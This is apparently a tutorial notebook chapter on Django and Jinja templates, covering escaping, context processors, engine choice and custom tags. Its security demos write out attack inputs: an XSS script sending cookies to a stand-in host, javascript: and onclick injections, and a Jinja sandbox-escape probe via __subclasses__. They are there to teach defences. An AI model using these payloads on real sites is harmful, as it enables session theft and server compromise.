# %% [markdown]
# # 06 · Templates
#
# After this chapter you can say what the template language does with a dot, a bar and a missing name, keep a visitor's script out of a
# page in both engines, choose between them, and write tags that are safe in every thread.
#
# *Questions: Q15 Django's template language · Q16 context and context processors · Q17 Jinja · Q18 tags and filters of one's own.*
# [Exercises 06.1 to 06.10](../exercises/06_templates.ipynb) follow.

# %%
from checks import quiz
from lab import queries, reset, scratch, start

start()

# Django is set up now, so its models can be imported.
import timeit
from collections import defaultdict
from importlib.metadata import version
from threading import Barrier, Thread

import django
import jinja2
from accounts.models import User
from catalog.models import Author, Book, Genre
from django.conf import settings
from django.shortcuts import render as render_response
from django.template import Context, Engine, Library, Node, RequestContext, Template, TemplateSyntaxError, engines
from django.template.defaultfilters import stringfilter
from django.template.loader import get_template
from django.templatetags.static import static
from django.test import Client, RequestFactory, override_settings
from django.test.html import parse_html
from django.urls import reverse
from django.utils.functional import SimpleLazyObject
from django.utils.html import escape, format_html, format_html_join
from django.utils.safestring import mark_safe
from jinja2.sandbox import SandboxedEnvironment
from reviews.models import Review

# %% [markdown]
# ## Q15 · Write pages in Django's template language
#
# *Basic · asked as T08, B4*
#
# **Say it.** A template is text with four kinds of marks: variables in double braces, tags between brace and per cent, filters after a
# bar, and comments. Django renders it with a context. Values are escaped for HTML unless they are marked as safe. A dot tries a dictionary
# key, then an attribute, then an index, and calls what it finds without arguments. What is missing shows as nothing. Pages extend a
# base template and fill its blocks. Decisions belong to views and models.
#
# *What lifts it:* escaping does not cover an attribute without quotes or a `javascript:` address; and templates are
# compiled once and kept.

# %% [markdown]
# **See it.** "HTML, CSS and JavaScript", says one list of what is in a template. Any text is: this is a letter, with all four kinds of
# marks. Which of them leaves no trace?

# %%
def render(source, **values):
    return Template(source).render(Context(values))


emma = Book.objects.select_related("author").get(slug="emma")
letter = """Dear {{ name|title }},{# not sent #}
{% if book.in_print %}{{ book.title }} by {{ book.author }} is here.{% endif %}"""
print(render(letter, name="mira & tomas", book=emma))

# %% [markdown]
# The comment. And the letter was escaped like a page: for plain text, switch that off with
# [`autoescape`](https://docs.djangoproject.com/en/stable/ref/templates/builtins/#autoescape). Now somebody puts a script into the shop's search, and
# the page repeats what was asked for. Does it arrive as a script?

# %%
attempt = "<script>fetch('//thief.example/?' + document.cookie)</script>"
page = Client().get("/search/", {"q": attempt}).content.decode()
print(attempt in page, page.count("&lt;script&gt;fetch"))

# %% [markdown]
# It arrives twice, as text. Nobody called an escaping function: that is the default. Two ways to switch it off, and two holes that it
# never closed. Which line can run code?

# %%
for source in ("{{ it }}", "{{ it|safe }}", "{% autoescape off %}{{ it }}{% endautoescape %}"):
    print(render(source, it="<script>alert(1)</script>"))
print(render('<a href="{{ it }}">my page</a>', it="javascript:alert(1)"))
print(render("<p title={{ it }}>", it="x onclick=alert(1)"))

# %% [markdown]
# All but the first. Escaping turns five characters, `<`, `>`, `&` and both quotes, into entities. It neither checks the scheme of an address nor
# quotes an attribute for you. Data for scripts goes through
# [`json_script`](https://docs.djangoproject.com/en/stable/ref/templates/builtins/#json-script):

# %%
print(render('{{ it|json_script:"titles" }}', it=["</script><script>alert(1)"]))

# %% [markdown]
# **The dot.** A key wins over a method of the same name. What does a dictionary with a key `items` answer, and what does a
# `defaultdict`?

# %%
for shelf in ({"Emma": 3}, {"Emma": 3, "items": "a key"}, defaultdict(list, {"Emma": 3})):
    print(render("{{ shelf.items }}", shelf=shelf).replace("&#x27;", "'"), "·", sorted(shelf))

# %% [markdown]
# The `defaultdict` makes up a value for every key, `items` included, so a loop over it shows an empty shelf and adds a key. Give the
# template `dict(shelf)`, or set `default_factory` to `None`.
#
# **Missing names** fail in silence: a typing error, a relation without a row, a method that needs an argument.

# %%
tomas = User.objects.get(username="tomas")
source = "[{{ book.titel }}] [{{ user.profile.city }}] [{{ book.price_on }}] [{{ book.genres.count }}]"
print(render(source, book=emma, user=tomas))

# %% [markdown]
# Only the last came to a value: it was found, and could be called. `string_if_invalid` makes the holes visible. It is
# [for debugging only](https://docs.djangoproject.com/en/stable/ref/templates/api/#how-invalid-variables-are-handled), because filters are skipped
# too, and templates that rely on the silence break:

# %%
loud = Engine(string_if_invalid="?? %s ??")
print(loud.from_string("{{ book.titel }} {{ book.titel|default:'untitled' }}").render(Context({"book": emma})))
print(render("{{ book.titel|default:'untitled' }}", book=emma))

# %% [markdown]
# Silence has a limit: an exception inside of what was found is raised, unless its class says `silent_variable_failure`, as
# `DoesNotExist` does. Is that so in a condition, too?

# %%
class Offer:
    @property
    def price(self):
        raise ValueError("The file of prices is damaged.")


for source in ("{{ offer.price }}", "{% if offer.price > 9 %}dear{% else %}cheap{% endif %}"):
    try:
        print(render(source, offer=Offer()))
    except ValueError as error:
        print(error)

# %% [markdown]
# An operator in `{% if %}` takes any exception for "no": a fault looks like a cheap book. And a call with arguments is not part of
# the language at all:

# %% tags=["raises-exception"]
render("{{ author.books.filter(language='English') }}", author=emma.author)

# %% [markdown]
# So the view filters, or the model has a method without arguments, or you write a tag (Q18). **Pages** share a frame. What becomes of
# the text in `book.html` outside of a block?

# %%
pages = {
    "base.html": "<title>{% block title %}The Bookshop{% endblock %}</title>\n{% block main %}{% endblock %}",
    "book.html": """{% extends "base.html" %} This is lost.
        {% block title %}{{ book }} · {{ block.super }}{% endblock %}
        {% block main %}{% include "_price.html" with amount=book.price only %}{% endblock %}""",
    "_price.html": "<p>{{ amount }} [{{ book }}]</p>",
}
shop = Engine(loaders=[("django.template.loaders.locmem.Loader", pages)])
print(shop.get_template("book.html").render(Context({"book": emma})))

# %% [markdown]
# It is not rendered. `block.super` is what the parent had there. `include` hands the whole context on, unless `only` says otherwise:
# the brackets are empty.
#
# Last, a link to the next page that keeps the search. `querystring` (5.1) starts from the parameters of the request, so a plain
# `Context` will not do:

# %%
request = RequestFactory().get("/search/", {"q": "emma & co", "page": "1"})
link = Template('<a href="{% querystring page=2 %}">')
print(link.render(RequestContext(request)))
try:
    link.render(Context())
except AttributeError as error:
    print(error)

# %% [markdown]
# **The trap.** "Rendering just replaces variables with their values. Everything else remains as it is." It is a fair first picture, and four
# things contradict it in one line:

# %%
source = "{{ title }}|{{ nobody }}|{# gone #}|{% autoescape off %}{{ title }}{% endautoescape %}"
print(render(source, title="<b>"))

# %% [markdown]
# Escaped, empty, removed, and a tag that changed a rule. The other half of the trap is `|safe` as the cure for a visible `&amp;`. Its
# cause is text that was escaped when it was stored. Store what people type, escape what you show:

# %%
for title in ("Dombey & Son", "Dombey &amp; Son", escape("Dombey & Son")):
    print(render("{{ title }}", title=title))

# %% [markdown]
# The second was escaped twice. The third was not, because what `escape()` returns is marked as safe, and that is all that `|safe` does:
# it makes a promise about the origin of a value.

# %% [markdown] reason="Three questions, each with a full answer."
# **Asked next**
#
# - *How does the dot in `{{ a.b }}` look up?* `a["b"]`, then `a.b`, then `a[b]` with a number
#   ([documentation](https://docs.djangoproject.com/en/stable/ref/templates/language/#variables)). What it found is called if it can be, unless
#   that needs arguments, alters data or says `do_not_call_in_templates`. Names with a leading underscore are refused.
# - *Where do you draw the line for logic?* A template may ask whether and how something is shown. What is shown, and for whom, is decided in
#   the view or the model, where a test reaches it without HTML, and where a query is seen.
# - *What does the cached loader do?* It [keeps the compiled template](https://docs.djangoproject.com/en/stable/ref/templates/api/#django.template.loaders.cached.Loader)
#   in the process. It is the default, since 4.1 in development as well, where `runserver` empties it when a file changes. Elsewhere a
#   changed template needs a restart.

# %%
path = "storefront/base.html"
print(get_template(path).template is get_template(path).template)
kept = engines["django"].engine
fresh = Engine(loaders=["django.template.loaders.app_directories.Loader"], libraries=kept.libraries)
slow, fast = (min(timeit.repeat(lambda: engine.get_template(path), number=20, repeat=3)) for engine in (fresh, kept))
print("compiling anew takes more than fifty times as long:", slow > 50 * fast)

# %% [markdown]
# **Versions.** Lists that stop at four constructs miss the newest one: since 6.0 a template can name a part of itself, and a view renders
# that alone, as htmx and other scripts ask for. On 5.2 the part is a file of its own, taken in with `include`
# ([documentation](https://docs.djangoproject.com/en/6.0/ref/templates/language/#template-partials)).

# %% tags=["since-6.1"]
if django.VERSION >= (6, 0):
    pages["list.html"] = "<ul>{% partialdef row inline %}<li>{{ book }}</li>{% endpartialdef %}</ul> {% partial row %}"
    for name in ("list.html", "list.html#row"):
        print(shop.get_template(name).render(Context({"book": emma})))
    part = Client().get("/search/", {"q": "emma", "fragment": "found"}).content.decode()
    print("<ul class" in part, "<html" in part)
else:
    print("Django 6.1 prints the list with its row twice, the row alone, then True False")

# %% [markdown]
# Also since 6.0: `forloop.length`, and `{% querystring %}` always begins with `?`, even with nothing to say, so that the link drops old
# parameters. 6.1 warns of two dots in a row:

# %% tags=["since-6.1"]
if django.VERSION >= (6, 1):
    import warnings

    print(render("{% for title in titles %}{{ forloop.counter }}/{{ forloop.length }} {% endfor %}", titles=["Emma", "Nana"]))
    print(Template("[{% querystring %}]").render(RequestContext(RequestFactory().get("/"))))
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        render("{{ book..title }}", book=emma)
    print(len(caught), "warning")
else:
    print("Django 6.1 prints 1/2 2/2, then [?], then 1 warning")

# %%
quiz("Q15")

# %% [markdown]
# Now [exercises 06.1 to 06.3](../exercises/06_templates.ipynb).

# %% [markdown]
# ## Q16 · Explain the context, and what processors add to it
#
# *Basic · asked as I9*
#
# **Say it.** The context is what a template can see: names, and the objects behind them. I pass a dictionary to `render()`, and Django
# wraps it in a `RequestContext`, a stack of dictionaries. Tags such as `for` and `with` push a layer and pop it, so what is set inside
# ends there; a lookup goes from the top down. One layer comes from the context processors, functions that take the request
# and return a dictionary. They run for every rendering with a request, so they have to be lazy.
#
# *What lifts it:* for the same name the view wins over a processor; and in an async view a processor that queries
# raises `SynchronousOnlyOperation`.

# %% [markdown]
# **See it.** A stack, not a dictionary: a lower layer is hidden, and comes back. What does the last line print?

# %%
context = Context({"title": "Emma"})
with context.push(title="Dracula"):
    print(context["title"], len(context.dicts))
print(context["title"], len(context.dicts), isinstance(context, dict))

# %% [markdown]
# The lowest layer holds `True`, `False` and `None`. In a template the same happens at each tag that has an end. Somebody wants to
# remember the last title of a loop, and finds nothing:

# %%
def render(source, **values):
    return Template(source).render(Context(values))


print(render("{% with title='Dracula' %}{{ title }}{% endwith %} {{ title }}", title="Emma"))
print(render("{% for title in titles %}{% firstof title as last %}{{ last }} {% endfor %}[{{ last }}]", titles=["Emma", "Nana"]))

# %% [markdown]
# **What is in it by default?** Without a request, your own names. With one, what the processors of a new project bring, and
# `csrf_token`, which always comes:

# %%
site = scratch("mysite")
for line in site.read("mysite/settings.py").splitlines():
    if "context_processors." in line:
        print(line.strip())
page = Template("{{ csrf_token|length }} {{ user }} {{ request.path }}")
print(page.render(RequestContext(RequestFactory().get("/books/"))), "·", page.render(Context()))

# %% [markdown]
# `debug` was a fourth [until 5.1](https://docs.djangoproject.com/en/5.2/releases/5.2/). The request from the factory went through no middleware, so there is no `request.user`, and `auth` falls back
# to `AnonymousUser`.
#
# **What a processor costs.** This one lists the genres for a menu. The page does not use it. How many queries do three renderings run?

# %%
def genres(request):
    return {"genres": list(Genre.objects.all())}


def three_pages(processor, source="<h1>The Bookshop</h1>"):
    request, template = RequestFactory().get("/"), Template(source)
    with queries(quiet=True) as seen:
        for _ in range(3):
            template.render(RequestContext(request, processors=[processor]))
    return len(seen)


print(three_pages(genres))

# %% [markdown]
# One for each, though no page has a menu, and just so on the 404 page and in the admin. (The page for a
# [500](https://docs.djangoproject.com/en/stable/ref/views/#the-500-server-error-view) is rendered without a request, so it has none of these
# names.) Made lazy, it costs only where it is
# used. Three ways; which of them asks twice where a page loops twice?

# %%
ways = {
    "a queryset": lambda request: {"genres": Genre.objects.all()},
    "SimpleLazyObject": lambda request: {"genres": SimpleLazyObject(lambda: list(Genre.objects.all()))},
    "a function": lambda request: {"genres": lambda: list(Genre.objects.all())},
}
menu = "{% for genre in genres %}{{ genre }}{% endfor %}{% for genre in genres %}{{ genre }}{% endfor %}"
for name, processor in ways.items():
    print(name, "· unused", three_pages(processor), "· used twice", three_pages(processor, menu))

# %% [markdown]
# Three pages, so the function asks twice on each: it is called at every mention. A queryset keeps its rows. A `SimpleLazyObject` is for
# values that are no querysets; the shop's processor wraps the number of copies in the cart in one.

# %% [markdown]
# **The trap.** "`context` is the general name, but you can give any other." Your variable may have any name; the parameter may not. And
# what you pass is a dictionary: the backend builds the stack, and refuses one of yours.

# %%
request, anything = RequestFactory().get("/"), {"found": None}
print(render_response(request, "storefront/_found.html", anything).status_code)
for call in (
    lambda: render_response(request, "storefront/_found.html", data=anything),
    lambda: get_template("storefront/_found.html").render(Context(anything)),
):
    try:
        call()
    except TypeError as error:
        print(error)

# %% [markdown]
# The second trap: who wins when a processor and the view use one name? With `render()` the view. In a `RequestContext` made by hand the
# processors, because they lie above the dictionary of the constructor:

# %%
values, name = {"shop_name": "Annex"}, engines["django"].from_string("{{ shop_name }}")
print(name.render(values, request))
print(Template("{{ shop_name }}").render(RequestContext(request, values)))

# %% [markdown] reason="Three questions, each with a full answer."
# **Asked next**
#
# - *How do you make a processor lazy?* Return a queryset or a `SimpleLazyObject`, as above. What only some pages need is not a processor's: a
#   tag or the view says it where it is used.
# - *Why is `{{ book.delete }}` harmless?* The method has `alters_data = True`, and the engine does not call such methods. A method that
#   you write has no such mark until you set it: this till is emptied by looking at it.
# - *What is in the context by default?* Without a request nothing but your names; with one, `csrf_token` and the processors of the
#   setting, `request`, `user`, `perms` and `messages` among them. An inclusion tag sees none of these names unless it takes the context (Q18).

# %%
class Till:
    def __init__(self):
        self.coins = [5, 2]

    def empty(self):
        self.coins = []


emma, till = Book.objects.get(slug="emma"), Till()
print(render("[{{ book.delete }}] [{{ books.delete }}]", book=emma, books=Book.objects.all()), Book.objects.count())
render("{{ till.empty }}", till=till)
Till.empty.alters_data = True
other = Till()
render("{{ till.empty }}", till=other)
print(till.coins, other.coins)

# %% [markdown]
# Since [5.2](https://docs.djangoproject.com/en/5.2/releases/5.2/) the methods of querysets that insert carry the mark as well, which `delete`
# and `update` had before. The shop sets it on a method of its own, which brings a withdrawn review back:

# %%
names = ("create", "bulk_create", "get_or_create", "update_or_create", "update", "delete")
print([hasattr(getattr(Book.objects.all(), name), "alters_data") for name in names])
print(Review.restore.alters_data)

# %% [markdown]
# **Versions.** 6.0 adds the processor `csp`, which puts a nonce for inline scripts into the context, to be named in the settings. Otherwise
# the two versions agree.

# %% tags=["since-6.1"]
if django.VERSION >= (6, 0):
    from django.template import context_processors

    request = RequestFactory().get("/")
    print(list(context_processors.csp(request)))
else:
    print("Django 6.1 prints ['csp_nonce']")

# %%
quiz("Q16")

# %% [markdown]
# Now [exercises 06.4 and 06.5](../exercises/06_templates.ipynb).

# %% [markdown]
# ## Q17 · Choose between Jinja and Django's language
#
# *Intermediate · asked as B10*
#
# **Say it.** Jinja is a template engine without Django in it; the package is called Jinja2, and Django has a backend for it. The marks
# look alike, but its expressions take arguments and arithmetic, it has macros, and it compiles to Python, so loops run several times
# faster. What Django's tags do, such as `url` and `static`, I hand over as functions in an environment. I take it for heavy pages, or
# to share templates with other programs; for forms, the admin and most apps Django's language is at home.
#
# *What lifts it:* Jinja alone does not escape, Django's backend switches it on; strangers' templates need its sandbox;
# and mostly the queries are the bottleneck, not the rendering.

# %% [markdown]
# **See it.** "The latest version is Jinja2", says a list. That is the name of the package, whose version is 3. The bookshop has one page
# in both engines. Is it the same page, as text and as HTML?

# %%
paths = "/catalogue/", "/catalogue/jinja2/"
django_page, jinja_page = (Client().get(path).content.decode() for path in paths)
print(version("jinja2").startswith("3."))
print(django_page == jinja_page, parse_html(django_page) == parse_html(jinja_page))

# %% [markdown]
# Equal as HTML; white space differs. Now what the two languages can say. Which of these does Django's refuse?

# %%
author = Author.objects.get(name="Jane Austen")
sources = "{{ author.name|upper }}", "{{ 2 * author.books.count() }}", "{{ author.books.filter(in_print=True).count() }}"
for source in sources:
    for engine in ("jinja2", "django"):
        try:
            print(engine, engines[engine].from_string(source).render({"author": author}))
        except TemplateSyntaxError as error:
            print(engine, type(error).__name__)

# %% [markdown]
# Jinja computes, and calls with arguments, so a template can filter and count in queries that no view knows of: a freedom to use with
# restraint. **Speed**, measured: a loop over 500 numbers, the best of seven runs.

# %%
def best(step, number=20):
    return min(timeit.repeat(step, number=number, repeat=7))


source, values = "{% for number in numbers %}{{ number }},{% endfor %}", {"numbers": list(range(500))}
slow, fast = (engines[name].from_string(source) for name in ("django", "jinja2"))
loop_ratio = best(lambda: slow.render(values)) / best(lambda: fast.render(values))
print(slow.render(values) == fast.render(values), "more than twice as fast:", loop_ratio > 2)

# %% [markdown]
# Some ten times, on the machine that this was written on: Jinja's loop is Python bytecode, Django's walks a tree of nodes. A page is
# more than its loop. The whole catalogue, request to response:

# %%
client = Client()
page_ratio = best(lambda: client.get("/catalogue/"), 2) / best(lambda: client.get("/catalogue/jinja2/"), 2)
print("the gain on the page is less than half of that in the loop:", page_ratio < loop_ratio / 2)

# %% [markdown]
# There, middleware, a query, 166 objects and the same two filters stay the same. **A missing name** is nothing in Django's language. Jinja lets you choose:

# %%
for undefined in (jinja2.Undefined, jinja2.DebugUndefined, jinja2.StrictUndefined):
    for source in ("[{{ titel }}]", "[{{ titel.text }}]"):
        try:
            print(undefined.__name__, source, "·", jinja2.Environment(undefined=undefined).from_string(source).render())
        except jinja2.UndefinedError as error:
            print(undefined.__name__, source, "·", error)

# %% [markdown]
# This is the checkable part of "easier to debug": by default both engines are silent about a name, and Jinja raises as soon as something
# is asked of it.
# [Django's backend](https://docs.djangoproject.com/en/stable/topics/templates/#django.template.backends.jinja2.Jinja2) takes `DebugUndefined` where
# `DEBUG` is on. The bookshop's environment is strict.

# %% [markdown]
# **The trap.** "Jinja provides automatic HTML escaping." Django's backend switches it on. An environment that you make yourself, for mails
# or in a script, escapes nothing:

# %%
attempt = "<script>alert('Emma')</script>"
print(jinja2.Environment().from_string("{{ it }}").render(it=attempt))
print(jinja2.Environment(autoescape=True).from_string("{{ it }}").render(it=attempt))
print(engines["jinja2"].from_string("{{ it }}").render({"it": attempt}))
print(engines["django"].from_string("{{ it }}").render({"it": attempt}))

# %% [markdown]
# And not only `<`, `>` and `&`, as the list says: quotes too, as `&#39;` in Jinja and `&#x27;` in Django. Next: "the sandbox is a framework for
# automating the testing process." It is for templates that strangers write, and has nothing to do with tests:

# %%
stranger = "{{ title.__class__.__mro__[-1].__subclasses__()|length > 100 }}"
print(jinja2.Environment().from_string(stranger).render(title="Emma"))
try:
    SandboxedEnvironment().from_string(stranger).render(title="Emma")
except jinja2.exceptions.SecurityError as error:
    print(type(error).__name__, "·", error)

# %% [markdown]
# From any string to every class of the process: whoever may write your templates may run your server. Django has no sandbox, and
# [its templates](https://docs.djangoproject.com/en/stable/topics/templates/) are not for strangers either. Jinja's sandbox leaves it to
# you to [limit time and memory](https://jinja.palletsprojects.com/en/stable/sandbox/). Methods that alter data it refuses, as Django's engine does,
# and plain Jinja does not:

# %%
def cookery():
    return Genre.objects.filter(name="Cookery").first()


print(engines["django"].from_string("[{{ genre.delete }}]").render({"genre": cookery()}), cookery())
try:
    SandboxedEnvironment().from_string("{{ genre.delete() }}").render(genre=cookery())
except jinja2.exceptions.SecurityError as error:
    print(type(error).__name__, cookery())
engines["jinja2"].from_string("{{ genre.delete() }}").render({"genre": cookery()})
print(cookery())
reset()

# %% [markdown] reason="Three questions, each with a full answer."
# **Asked next**
#
# - *How do you give `url()` and `static()` to Jinja?* `OPTIONS["environment"]` names a function that gets the backend's options, makes the environment
#   from them, and adds to its globals. Drop the options, and `autoescape` is gone. The shop's is in `config/jinja.py`.
# - *Can both engines be used, and who wins for a name?* Yes. Django asks the engines in the order of `TEMPLATES`, and takes the first that
#   finds the name; `using=` names one. Jinja's templates are in the folder `jinja2` of an app.
# - *Is template speed your bottleneck?* Measure the page before you decide: more often it is queries, and another engine does not make them
#   fewer. Then cache the costly fragment, and change the engine last.

# %%
def url(name, *args, **kwargs):
    return reverse(name, args=args, kwargs=kwargs)


def environment(**options):
    made = jinja2.Environment(**options)
    made.globals |= {"static": static, "url": url}
    return made


bare, ours = jinja2.Environment(autoescape=True), environment(autoescape=True)
print(ours.from_string("{{ url('storefront:book', slug='emma') }} {{ static('brand/sign.svg') }}").render())
for source in ("{{ url('storefront:home') }}", "{% url 'storefront:home' %}", "{% csrf_token %}"):
    try:
        bare.from_string(source).render()
    except jinja2.TemplateError as error:
        print(error)

# %% [markdown]
# The token is `{{ csrf_input }}` in Jinja; the backend adds it when there is a request. And the order of engines, for a name that both have:

# %%
print(get_template("storefront/catalogue.html").backend.name)
with override_settings(TEMPLATES=settings.TEMPLATES[::-1]):
    print(get_template("storefront/catalogue.html").backend.name)
field = engines["jinja2"].from_string("{{ csrf_input }}").render({}, RequestFactory().get("/"))
print(field.startswith('<input type="hidden" name="csrfmiddlewaretoken"'))

# %%
quiz("Q17")

# %% [markdown]
# Now [exercises 06.6 and 06.7](../exercises/06_templates.ipynb).

# %% [markdown]
# ## Q18 · Write tags and filters of your own
#
# *Advanced · asked as T-A7*
#
# **Say it.** They live in a module in the package `templatetags` of an installed app, which makes a `Library` named `register`, and
# `{% load module %}` brings them in. A filter takes a value and at most one argument. A simple tag takes any arguments and returns a value;
# an inclusion tag renders a template of its own; since 5.2 a simple block tag wraps what stands inside. For control
# over parsing I write a compile function and a `Node`. HTML is built with `format_html`, never with an f-string in `mark_safe`.
#
# *What lifts it:* a compiled template is shared by all threads.

# %% [markdown]
# **See it.** A library can be tried in a cell: the second line does what the file `templatetags/shelf.py` of an app would do. Which of the two
# calls fails?

# %%
register, engine = Library(), Engine()
engine.template_libraries["shelf"] = register


def render(source, **values):
    return engine.from_string("{% load shelf %}" + source).render(Context(values))


@register.filter
def initials(name, separator="."):
    return "".join(part[0] + separator for part in name.split())


print(render("{{ name|initials }} {{ name|initials:'' }}", name="Jane Austen"))
try:
    render("{{ name|initials }}", name=1811)
except AttributeError as error:
    print(error)

# %% [markdown]
# The language promises silence where a value is missing, not for errors in your function. `stringfilter` makes text of what comes in.
# What does it make of a name that is missing, and of `None`?

# %%
register.filter("initials_of", stringfilter(initials))
source = "{{ year|initials_of }} [{{ nobody|initials_of }}] [{{ translator|initials_of }}]"
print(render(source, year=1811, translator=None))

# %% [markdown]
# Missing is the empty text, but `None` becomes the word "None": test for it in the template, or in the filter before the conversion.

# %% [markdown]
# **Three decorators**, by what they hand you. A simple tag takes any arguments and returns any value. With `as` the value is stored; without, it
# is printed, and escaped:

# %%
@register.simple_tag
def bestsellers(number, *, language="English"):
    return Book.objects.bestselling().filter(language=language)[:number]


print(render("{% bestsellers 2 language='Russian' as best %}{% for book in best %}{{ book }}; {% endfor %}"))
print(render("{% bestsellers 1 language='French' %}"))

# %% [markdown]
# An inclusion tag returns the context for a template of its own, and a block tag gets the part between its two ends, rendered. What
# is escaped in the second line?

# %%
@register.inclusion_tag(engine.from_string("<b>{{ title }}</b> {{ user }}"))
def badge(book):
    return {"title": book.title}


@register.simple_block_tag
def notice(content, heading):
    return format_html("<h2>{}</h2><p>{}</p>", heading, content)


print(render("{% badge book %}", book=Book.objects.get(slug="emma"), user="mira"))
print(render("{% notice heading %}{{ text }} <i>new</i>{% endnotice %}", heading="A & B", text="1 < 2"))

# %% [markdown]
# The inclusion tag sees what it returned and no `user`, unless it takes the context and passes it on. In the block tag
# the content came rendered and thereby safe; `format_html` escaped the heading and left the content alone.
#
# **By hand.** A compile function runs once, when the template is parsed, and returns a node; the node's `render` runs each time. This
# one renders what stands inside only while fewer than three copies are left:

# %%
class LastCopiesNode(Node):
    def __init__(self, copies, nodelist):
        self.copies, self.nodelist = copies, nodelist

    def render(self, context):
        return self.nodelist.render(context) if self.copies.resolve(context) < 3 else ""


@register.tag
def lastcopies(parser, token):
    name, copies = token.split_contents()
    nodelist = parser.parse(("endlastcopies",))
    parser.delete_first_token()
    return LastCopiesNode(parser.compile_filter(copies), nodelist)


for left in (2, 5):
    print(render("[{% lastcopies left %}Only {{ left }} left{% endlastcopies %}]", left=left))

# %% [markdown]
# Only a node decides whether its content is rendered at all: a simple block tag gets it when the queries have run.

# %% [markdown]
# **The trap.** `mark_safe(f"…")`. Whoever writes it means the tags around the value, and vouches for the value as well. Which of these
# three lets the script through?

# %%
attempt = "<script>alert(1)</script>"
print(mark_safe(f"<b>{attempt}</b>"))
print(format_html("<b>{}</b>", attempt))
print(format_html_join(", ", "<b>{}</b>", [(attempt,)]))

# %% [markdown]
# Since 5.0 `format_html` without arguments is deprecated, and 6.0 raises `TypeError`: `format_html(f"<b>{it}</b>")` was the same hole with a better
# name.
#
# `is_safe=True` is the second misreading. It does not make output safe; it says that a filter adds no markup, so that safe
# input stays safe:

# %%
@register.filter(is_safe=True)
@stringfilter
def twice(text):
    return f"{text} {text}"


register.filter("twice_unmarked", stringfilter(lambda text: f"{text} {text}"))
for value in (attempt, mark_safe("<b>Emma</b>")):
    print(render("{{ value|twice }}", value=value))
print(render("{{ value|twice_unmarked }}", value=mark_safe("<b>Emma</b>")))

# %% [markdown]
# A filter that adds markup escapes by itself, and asks with `needs_autoescape` whether it should, so that `{% autoescape off %}` is still obeyed:

# %%
@register.filter(needs_autoescape=True)
def first_letter(text, autoescape=True):
    cleaned = escape if autoescape else str
    return mark_safe(f"<big>{cleaned(text[0])}</big>{cleaned(text[1:])}")


print(render("{{ it|first_letter }}", it="R<U>R"))
print(render("{% autoescape off %}{{ it|first_letter }}{% endautoescape %}", it="R<U>R"))

# %% [markdown]
# The third trap is repeated everywhere: without `__init__.py` in `templatetags`, the library is not found. So it was before Python had
# namespace packages. In a project, first without the file, then with the app out of the settings:

# %%
site = scratch("mysite")
site.output("python manage.py startapp books")
site.write("books/templatetags/shelf.py", """
from django.template import Library

register = Library()
register.simple_tag(lambda: "found", name="where")
""")

# %%
site.write("page.py", """
import django
from django.template import Context, Template

django.setup()
print(Template("{% load shelf %}{% where %}").render(Context()))
""")
site.write("mysite/shop.py", "from .settings import *\nINSTALLED_APPS += ['books']")
for module in ("mysite.shop", "mysite.settings"):
    lines = site.output("python page.py", DJANGO_SETTINGS_MODULE=module).splitlines()
    print(next(line for line in lines if line == "found" or "not a registered" in line))

# %% [markdown]
# Write the file all the same: tools that pack an app, such as
# [setuptools](https://setuptools.pypa.io/en/latest/userguide/package_discovery.html), may look for it, and the package comes without
# your tags. Where a library "is not registered", look first at `INSTALLED_APPS`, then at the server, which has to be started anew.

# %% [markdown] reason="Three questions, each with a full answer."
# **Asked next**
#
# - *Why must a node not keep anything of a rendering on `self`?* The compiled template, with its nodes, is cached and shared by all threads.
#   What belongs to one rendering goes into `context.render_context[self]`, as `cycle` does.
# - *`simple_tag`, `inclusion_tag` or `simple_block_tag`?* A value or a short text: simple tag. Markup that a designer should find: inclusion tag. A
#   frame around content: block tag. Only to skip, repeat or re-read the content: a node.
# - *What does `stringfilter` do?* It turns the value into `str` before your function sees it. It adds no safety: together
#   with `is_safe`, safe input comes out safe.
#
# Two visitors meet in one template. What does each of them read?

# %%
class GreetingNode(Node):
    def render(self, context):
        self.name = context["name"]
        meeting.wait(timeout=10)
        return self.name


class CarefulNode(Node):
    def render(self, context):
        context.render_context[self] = context["name"]
        meeting.wait(timeout=10)
        return context.render_context[self]


register.tag("greeting", lambda parser, token: GreetingNode())
register.tag("careful", lambda parser, token: CarefulNode())
meeting = Barrier(2)

# %% [markdown]
# The barrier lets both threads store their name before either of them returns one, so the order of threads does not matter:

# %%
def two_visitors(tag):
    template, read = engine.from_string("{% load shelf %}{% " + tag + " %}"), {}

    def visit(name):
        read[name] = template.render(Context({"name": name}))

    visitors = [Thread(target=visit, args=[name]) for name in ("mira", "tomas")]
    for thread in visitors:
        thread.start()
    for thread in visitors:
        thread.join()
    return {name: shown == name for name, shown in read.items()}


for tag in ("greeting", "careful"):
    print(tag, "· own name for", sum(two_visitors(tag).values()), "of 2")

# %% [markdown]
# One of two read the name of the other. In a shop that is somebody's address. A test needs no threads for it: let a second rendering
# begin in the middle of the first, as exercise 06.10 does.

# %% [markdown]
# **Versions.** `simple_block_tag`, and mappings in `format_html_join`, are in both. 6.0 makes `format_html` without arguments an error, 6.1 adds the tag
# `csp_nonce_attr` for inline scripts:

# %% tags=["since-6.1"]
if django.VERSION >= (6, 1):
    from django.template import defaulttags

    print("csp_nonce_attr" in defaulttags.register.tags)
    try:
        format_html(f"<b>{attempt}</b>")
    except TypeError as error:
        print(error)
else:
    print("Django 6.1 prints True, then: args or kwargs must be provided.")

# %%
quiz("Q18")

# %% [markdown]
# Now [exercises 06.8 to 06.10](../exercises/06_templates.ipynb), then chapter
# [07 · Static and media files](07_static_and_media.ipynb).
